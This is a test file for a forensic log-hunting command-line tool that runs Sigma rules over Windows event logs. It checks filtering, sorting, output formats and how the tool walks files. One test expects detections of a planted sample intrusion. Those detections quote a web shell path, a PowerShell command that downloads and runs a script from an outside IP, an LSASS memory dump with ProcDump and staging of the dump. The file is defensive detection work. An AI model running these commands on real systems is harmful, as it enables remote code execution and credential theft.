import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { DATA, SPOOR } from '../helpers/paths.js';

function spoor(...args: string[]) {
  const r = spawnSync(process.execPath, [SPOOR, ...args], { encoding: 'utf8', maxBuffer: 1 << 30 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const tmp = mkdtempSync(join(tmpdir(), 'spoor-hunt-opts-'));
after(() => rmSync(tmp, { recursive: true, force: true }));

const EVIDENCE = `${DATA}/evtx/attack-samples`;
const RULES = `${DATA}/sigma/rules/windows`;
const LEVELS = ['informational', 'low', 'medium', 'high', 'critical'];
const jsonl = (out: string) => out.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));

// One full run is the reference the selections are checked against.
const all = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--sort', 'none', '--rules', RULES);
const everything = jsonl(all.stdout);

test('a hunt over many files: detections in time order across files, the same set as file order', () => {
  assert.equal(all.code, 0, all.stderr);
  assert.ok(everything.length > 200);
  const sorted = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--rules', RULES);
  const lines = jsonl(sorted.stdout);
  const times = lines.map((d) => Date.parse(d.timestamp));
  for (let i = 1; i < times.length; i++) assert.ok(times[i - 1]! <= times[i]!, `line ${i + 1} is earlier than line ${i}`);
  const key = (d: { rule: { id: string }; file: string; record_id: string }) => `${d.rule.id} ${d.file} ${d.record_id}`;
  assert.deepEqual(lines.map(key).sort(), everything.map(key).sort());
  // Files interleave once sorted: the order is not simply file order.
  assert.notDeepEqual(lines.map(key), everything.map(key));
});

test('--level, --status, --rule-id and --tags keep exactly the detections of the rules they select', () => {
  const high = jsonl(spoor('hunt', EVIDENCE, '--format', 'jsonl', '--sort', 'none', '--level', 'high', '--rules', RULES).stdout);
  assert.deepEqual(high, everything.filter((d) => LEVELS.indexOf(d.rule.level) >= LEVELS.indexOf('high')));
  const stable = jsonl(spoor('hunt', EVIDENCE, '--format', 'jsonl', '--sort', 'none', '--status', 'stable', '--rules', RULES).stdout);
  assert.deepEqual(stable, everything.filter((d) => d.rule.status === 'stable'));
  const ids = [...new Set(everything.map((d) => d.rule.id))].slice(0, 2);
  const byId = jsonl(spoor('hunt', EVIDENCE, '--format', 'jsonl', '--sort', 'none', '--rule-id', ids.join(','), '--rules', RULES).stdout);
  assert.deepEqual(byId, everything.filter((d) => ids.includes(d.rule.id)));
  // A technique takes its sub-techniques: T1003 selects T1003.001 rules too.
  const cred = jsonl(spoor('hunt', EVIDENCE, '--format', 'jsonl', '--sort', 'none', '--tags', 'T1003', '--rules', RULES).stdout);
  assert.deepEqual(cred, everything.filter((d) => d.rule.techniques.some((t: string) => t === 'T1003' || t.startsWith('T1003.'))));
  assert.ok(high.length && stable.length && byId.length && cred.length);
});

test('--from and --to keep the detections of events inside the window', () => {
  const from = '2019-03-19T00:00:00Z';
  const to = '2019-06-01';
  const r = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--sort', 'none', '--from', from, '--to', to, '--rules', RULES);
  const expected = everything.filter((d) => Date.parse(d.timestamp) >= Date.parse(from) && Date.parse(d.timestamp) <= Date.parse('2019-06-01T00:00:00Z'));
  assert.ok(expected.length > 0 && expected.length < everything.length);
  assert.deepEqual(jsonl(r.stdout), expected);
  assert.equal(spoor('hunt', EVIDENCE, '--from', 'yesterday', '--rules', RULES).code, 2);
  assert.equal(spoor('hunt', EVIDENCE, '--timezone', 'Mars/Olympus', '--rules', RULES).code, 2);
});

test('detections carry the fields the rule tested; Timesketch output has message, datetime and timestamp_desc', () => {
  for (const d of everything.slice(0, 50)) {
    assert.ok(Object.keys(d.matched).length > 0, `${d.rule.title}: no matched fields`);
    for (const [k, v] of Object.entries(d.matched)) if (d.event.Event.EventData && k in d.event.Event.EventData) assert.deepEqual(v, d.event.Event.EventData[k]);
  }
  const out = join(tmp, 'ts.jsonl');
  assert.equal(spoor('hunt', EVIDENCE, '--format', 'timesketch', '--sort', 'none', '--output', out, '--rules', RULES).code, 0);
  const ts = jsonl(readFileSync(out, 'utf8'));
  assert.equal(ts.length, everything.length);
  ts.forEach((t, i) => {
    const d = everything[i];
    assert.equal(t.datetime, d.timestamp);
    assert.equal(t.timestamp_desc, 'Event Recorded');
    assert.ok(t.message.startsWith(`${d.rule.title} [${d.rule.level}] on ${d.computer}`));
    assert.equal(t.rule_id, d.rule.id);
  });
});

test('the summary names levels, top rules, hosts, the time range and the rules run; the table shows times in --timezone', () => {
  const r = spoor('hunt', EVIDENCE, '--timezone', 'Asia/Tokyo', '--rules', RULES);
  assert.equal(r.code, 0);
  const byLevel = new Map<string, number>();
  for (const d of everything) byLevel.set(d.rule.level, (byLevel.get(d.rule.level) ?? 0) + 1);
  const levels = [...LEVELS].reverse().filter((l) => byLevel.has(l)).map((l) => `${l} ${byLevel.get(l)}`).join(', ');
  assert.match(r.stderr, new RegExp(`by level: ${levels}`));
  assert.match(r.stderr, /top rules:\n/);
  assert.match(r.stderr, /hosts:\n/);
  assert.match(r.stderr, /time range: \d{4}-\d\d-\d\d \d\d:\d\d:\d\d to /);
  assert.match(r.stderr, new RegExp(`${everything.length} detections`));
  assert.match(r.stdout, /^time \(Asia\/Tokyo\)/);
  // The first row's time is the earliest event's, nine hours ahead of UTC.
  const earliest = Math.min(...everything.map((d) => Date.parse(d.timestamp)));
  const shown = new Date(earliest + 9 * 3600_000).toISOString().replace('T', ' ').slice(0, 19);
  assert.equal(r.stdout.split('\n')[1]!.slice(0, 19), shown);
});

test('two threads find exactly what one finds, in the same order', () => {
  const one = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--threads', '1', '--rules', RULES);
  const two = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--threads', '2', '--rules', RULES);
  assert.equal(two.code, 0, two.stderr);
  assert.equal(two.stdout, one.stdout);
});

test('on a terminal the progress bar updates and the summary follows; piped or under CI there is none', () => {
  // `script` gives the hunt a pseudo-terminal; CI is unset inside it on purpose.
  const cmd = `env -u CI ${process.execPath} ${SPOOR} hunt ${EVIDENCE} --format jsonl --output ${join(tmp, 'tty.jsonl')} --rules ${RULES}`;
  const r = spawnSync('script', ['-qec', cmd, '/dev/null'], { encoding: 'utf8', maxBuffer: 1 << 28 });
  assert.equal(r.status, 0, r.stdout);
  // cli-progress redraws each frame from column 1 (CSI 1 G).
  const frames = r.stdout.split('\x1b[1G').filter((f) => f.includes('hunting ['));
  assert.ok(frames.length >= 2, `progress bar frames: ${frames.length}`);
  // 277 EVTX files and one IIS log (Tunna's traces in Command and Control).
  assert.match(frames[frames.length - 1]!, /100% \| 278\/278 files .* events\/s \| \d+ detections/);
  assert.match(r.stdout, /by level: /);
  const piped = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--rules', RULES);
  assert.doesNotMatch(piped.stderr, /hunting \[/);
});

test('without --rules, the hunt uses Spoor\'s own rules and finds each planted step of the sample intrusion', () => {
  const dir = join(tmp, 'samples');
  const made = spawnSync(process.execPath, [join(SPOOR, '../../dist/scripts/make-samples.js'), dir], { encoding: 'utf8' });
  assert.equal(made.status, 0, made.stderr);
  const home = mkdtempSync(join(tmpdir(), 'spoor-home-empty-'));
  const r = spawnSync(process.execPath, [SPOOR, 'hunt', dir, '--format', 'jsonl'], { encoding: 'utf8', env: { ...process.env, SPOOR_HOME: home } });
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stderr, /rules: Spoor's own rules/);
  const found = jsonl(r.stdout).map((d) => `${d.rule.title} | ${d.event.Event.EventData.CommandLine ?? d.event.Event.EventData.TargetFilename}`);
  // The planted steps (src/evidence/evtx/sample-events.ts): web shell, three commands run by it, LSASS dump, staging.
  assert.deepEqual(found, [
    'Script Page Written Into An Exchange Or IIS Web Folder | C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx',
    'Command Shell Started By The IIS Worker Process | cmd /c whoami /all',
    'Command Shell Started By The IIS Worker Process | cmd /c net group "Domain Admins" /domain',
    'Command Shell Started By The IIS Worker Process | powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.77/a.ps1\')"',
    'LSASS Memory Dumped With ProcDump | C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp',
    'Archive Created In ProgramData With 7-Zip | C:\\ProgramData\\7za.exe a C:\\ProgramData\\out.7z C:\\ProgramData\\lsass.dmp',
  ]);
});

test('--include and --exclude choose the files of a directory walk; files of no known format are listed and skipped', () => {
  const dir = join(tmp, 'collection');
  const made = spawnSync(process.execPath, [join(SPOOR, '../../dist/scripts/make-samples.js'), join(dir, 'host1')], { encoding: 'utf8' });
  assert.equal(made.status, 0, made.stderr);
  spawnSync('mkdir', ['-p', join(dir, 'host1', 'Temp')]);
  spawnSync('cp', [join(dir, 'host1', 'evtx', 'Security.evtx'), join(dir, 'host1', 'Temp', 'copy.evtx')]);
  writeFileSync(join(dir, 'host1', 'notes.txt'), 'collected by hand\n');
  const files = (r: { stderr: string }) => Number(/(\d+) files, /.exec(r.stderr)?.[1]);
  const all = spoor('hunt', dir, '--format', 'csv');
  assert.equal(files(all), 3);
  assert.match(all.stderr, /notes\.txt: not a format spoor reads .*; skipped/);
  assert.equal(files(spoor('hunt', dir, '--format', 'csv', '--exclude', '**/Temp/**')), 2);
  assert.equal(files(spoor('hunt', dir, '--format', 'csv', '--include', 'Security.evtx')), 1);
  assert.equal(files(spoor('hunt', dir, '--format', 'csv', '--include', '*.EVTX', '--exclude', 'copy.evtx')), 2);
});

test('a directory link back up the tree is walked once: no file twice, no endless walk', () => {
  const dir = join(tmp, 'linked');
  mkdirSync(join(dir, 'logs'), { recursive: true });
  writeFileSync(join(dir, 'logs', 'events.jsonl'), '{"EventID": 1, "Channel": "Test"}\n');
  symlinkSync(dir, join(dir, 'logs', 'back'));
  const r = spoor('hunt', dir, '--format', 'csv');
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, / 1 files, 1 events/);
});

test('a rule given twice is loaded once: the same folder twice, a file inside it, a copy of a rule under another name', () => {
  const rules = `${DATA}/sigma/rules/windows/process_creation`;
  const once = jsonl(spoor('hunt', EVIDENCE, '--format', 'jsonl', '--rules', rules).stdout);
  assert.ok(once.length > 50);
  const file = `${rules}/proc_creation_win_whoami_all_execution.yml`;
  const copies = join(tmp, 'copies');
  mkdirSync(copies, { recursive: true });
  writeFileSync(join(copies, 'my_copy_of_whoami.yml'), readFileSync(file));
  const twice = spoor('hunt', EVIDENCE, '--format', 'jsonl', '--rules', rules, rules, file, copies, '--verbose');
  assert.equal(twice.code, 0, twice.stderr);
  const key = (d: { rule: { id: string }; file: string; record_id: string }) => `${d.rule.id} ${d.file} ${d.record_id}`;
  assert.deepEqual(jsonl(twice.stdout).map(key).sort(), once.map(key).sort());
  assert.match(twice.stderr, /my_copy_of_whoami\.yml:\d+: rule not loaded: duplicate of the rule with the same id at .*proc_creation_win_whoami_all_execution\.yml:1: loaded once/);
});

test('detections in JSON lines and CSV name the line of their event, counted across the parts of a file cut for threads', () => {
  // A JSON Lines file of 120,000 events (about 20 MB, cut into 8 MiB parts), a few of them matching.
  const file = join(tmp, 'events.jsonl');
  const lines: string[] = [];
  for (let i = 0; i < 120_000; i++) {
    const whoami = i % 29_989 === 7;
    lines.push(JSON.stringify({ '@timestamp': new Date(Date.UTC(2021, 2, 14) + i * 1000).toISOString(), Hostname: 'h1', Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Image: whoami ? 'C:\\Windows\\System32\\whoami.exe' : 'C:\\Windows\\System32\\svchost.exe', CommandLine: whoami ? `whoami /all ${i}` : `svchost -k netsvcs ${i}`, OriginalFileName: whoami ? 'whoami.exe' : 'svchost.exe', padding: 'x'.repeat(100) }));
  }
  writeFileSync(file, lines.join('\n') + '\n');
  const r = spoor('hunt', file, '--format', 'jsonl', '--threads', '2', '--rules', `${DATA}/sigma/rules/windows/process_creation/proc_creation_win_whoami_all_execution.yml`);
  assert.equal(r.code, 0, r.stderr);
  const found = jsonl(r.stdout) as { line: number; event: { Event: { EventData: { CommandLine: string } } } }[];
  assert.equal(found.length, 5);
  // The line each event is on, read off the file itself.
  for (const d of found) assert.equal(lines[d.line - 1], lines.find((l) => l.includes(`"whoami /all ${d.event.Event.EventData.CommandLine.split(' ').pop()}"`)));
  assert.ok(found.some((d) => d.line > 60_000), 'a match in a later part');
  // CSV: the line of the row.
  const csv = join(tmp, 'events.csv');
  writeFileSync(csv, 'TimeCreated,Channel,EventID,Image,CommandLine,OriginalFileName\r\n2021-03-14T00:00:00Z,Microsoft-Windows-Sysmon/Operational,1,C:\\svchost.exe,svchost,svchost.exe\r\n2021-03-14T00:00:01Z,Microsoft-Windows-Sysmon/Operational,1,C:\\Windows\\System32\\whoami.exe,whoami /all,whoami.exe\r\n');
  const c = jsonl(spoor('hunt', csv, '--format', 'jsonl', '--rules', `${DATA}/sigma/rules/windows/process_creation/proc_creation_win_whoami_all_execution.yml`).stdout) as { line: number }[];
  assert.deepEqual(c.map((d) => d.line), [3]);
});

test('keyword rules show the text they matched', () => {
  writeFileSync(join(tmp, 'kw.yml'), 'title: Forwarding set\nid: 4f4d0e11-7a6e-4c4b-9a53-0c7c2f1e9a01\nlogsource: {product: windows, service: msexchange-management}\ndetection:\n  keywords:\n    - \'ForwardingSmtpAddress\'\n  condition: keywords\nlevel: medium\n');
  const found = jsonl(spoor('hunt', `${DATA}/evtx/edge-cases/samples/MSExchange_Management_wec.evtx`, '--format', 'jsonl', '--rules', join(tmp, 'kw.yml')).stdout) as { matched: { keywords: string[] } }[];
  assert.equal(found.length, 1);
  assert.deepEqual(found[0]!.matched.keywords, ['-Identity "Administrateur" -DeliverToMailboxAndForward "False" -ForwardingSmtpAddress "smtp:test2@example.com"']);
});
